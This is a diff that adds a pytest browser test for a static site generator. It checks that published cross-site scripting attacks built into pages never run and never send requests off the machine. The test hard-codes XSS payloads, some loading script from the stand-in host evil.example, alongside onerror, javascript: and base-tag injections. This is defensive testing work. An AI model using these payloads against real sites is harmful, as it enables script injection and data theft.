@@ -1,0 +1,162 @@
+"""All published attacks built into a site by the command line and opened in a real browser."""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+from urllib.parse import urlsplit
+
+import pytest
+
+from tests.cases import needs_shared
+from tests.hostile import OURS, attacks, oddities, places
+from tests.oracle import FRAMES
+
+pytestmark = pytest.mark.browser
+
+WATCH = """
+window.ran = [];
+for (const name of ["alert", "confirm", "prompt", "print", "open"])
+    window[name] = (...given) => { window.ran.push(name + ":" + given); };
+document.addEventListener("securitypolicyviolation", event => {
+    if (event.effectiveDirective.startsWith("script"))
+        window.ran.push("blocked " + event.blockedURI);
+});
+"""
+REPORT = """() => {
+    const found = [...window.ran];
+    for (const element of document.querySelectorAll("main *")) {
+        if (["script", "object", "embed", "base", "form", "svg"].includes(element.localName))
+            found.push(element.localName);
+        for (const attribute of element.attributes)
+            if (attribute.name.startsWith("on")) found.push(element.localName + attribute.name);
+        if (element.protocol && !["http:", "https:", "mailto:", ":"].includes(element.protocol))
+            found.push(element.protocol);
+    }
+    return found;
+}"""
+
+
+def _pages() -> Iterator[str]:
+    yield from attacks()
+    for payload in (*OURS, *attacks()[::20]):
+        yield "\n\n".join(places(payload))
+    odd = oddities()
+    for start in range(0, len(odd), 25):
+        yield "\n\n".join(odd[start : start + 25])
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    folder = tmp_path_factory.mktemp("hostile")
+    rows = [
+        {"id": f"{n}_0", "source": f"docs/page{n}.md", "text": text, "source_section": ""}
+        for n, text in enumerate(_pages())
+    ]
+    (folder / "docs.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows), "utf-8")
+    command = [sys.executable, "-m", "sitegen", "build", "docs.jsonl", "-o", "site", "-q"]
+    root = str(Path(__file__).parents[2])
+    done = subprocess.run(
+        command, cwd=folder, env={"PYTHONPATH": root}, capture_output=True, text=True, check=False
+    )
+    assert done.returncode == 0, done.stderr[-2000:]
+    return folder / "site"
+
+
+class _Watched:
+    """A browser tab that notes what runs and which requests leave the machine."""
+
+    def __init__(self, browser: Any) -> None:
+        self._requests: list[Any] = []
+        self.dialogs: list[str] = []
+        self._context = browser.new_context()
+        self._context.add_init_script(WATCH)
+        self._context.on("request", self._request)
+        self.page = self._context.new_page()
+        self.page.on("dialog", self._dialog)
+        self._context.on("page", lambda page: self.dialogs.append(f"window {page.url}"))
+
+    def _request(self, request: Any) -> None:
+        url = urlsplit(request.url)
+        host = url.hostname or ""
+        if host == "127.0.0.1" or url.scheme in {"about", "data"}:
+            return
+        framed = request.resource_type == "document" and (
+            host in FRAMES or host.endswith(".hf.space")
+        )
+        if not framed and request.resource_type not in {"image", "media"}:
+            self._requests.append(request)
+
+    def left(self) -> list[str]:
+        """List the requests for other hosts that the policy did not stop."""
+        return [
+            f"{request.resource_type} {request.url}"
+            for request in self._requests
+            if "csp" not in (request.failure or "").lower()
+        ]
+
+    def _dialog(self, dialog: Any) -> None:
+        self.dialogs.append(dialog.message)
+        dialog.dismiss()
+
+    def visit(self, address: str) -> list[str]:
+        """Open a page and list what ran or tried to."""
+        self.page.goto(address, wait_until="load")
+        found: list[str] = self.page.evaluate(REPORT)
+        return found
+
+    def close(self) -> None:
+        self._context.close()
+
+
+@pytest.fixture
+def watched(chromium: Any) -> Iterator[_Watched]:
+    tab = _Watched(chromium)
+    yield tab
+    tab.close()
+
+
+@needs_shared
+def test_no_published_attack_runs_in_a_browser(site: Path, serving: Any, watched: _Watched) -> None:
+    pages = sorted(site.glob("page*/"))
+    assert len(pages) > 400
+    with serving(site) as address:
+        found = {page.name: watched.visit(f"{address}{page.name}/") for page in pages}
+    assert {name: ran for name, ran in found.items() if ran} == {}
+    assert watched.dialogs == []
+    assert watched.left() == []
+
+
+@pytest.mark.parametrize(
+    "smuggled",
+    [
+        "<img src=x onerror=alert(1)>",
+        "<script>alert(1)</script>",
+        "<script src=https://evil.example/x.js></script>",
+        "<svg onload=alert(1)></svg>",
+        "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+        "<a id=x href=javascript:alert(1)>x</a>",
+        "<object data=https://evil.example/x></object>",
+        "<base href=https://evil.example/><script src=x.js></script>",
+    ],
+)
+def test_the_shipped_policy_stops_what_a_sanitiser_would_miss(
+    smuggled: str, tmp_path: Path, serving: Any, watched: _Watched
+) -> None:
+    (tmp_path / "docs").mkdir()
+    (tmp_path / "docs" / "index.md").write_text("# Page\n\nHERE\n", "utf-8")
+    command = [sys.executable, "-m", "sitegen", "build", "docs", "-o", "site", "-q"]
+    environment = {"PYTHONPATH": str(Path(__file__).parents[2])}
+    subprocess.run(command, cwd=tmp_path, env=environment, check=True, capture_output=True)
+    page = tmp_path / "site" / "index.html"
+    page.write_text(page.read_text("utf-8").replace("HERE", smuggled), "utf-8")
+    with serving(tmp_path / "site") as address:
+        watched.visit(address)
+        watched.page.evaluate("document.getElementById('x')?.click()")
+        ran = watched.page.evaluate("window.ran.filter(what => !what.startsWith('blocked'))")
+    assert ran == []
+    assert watched.left() == []
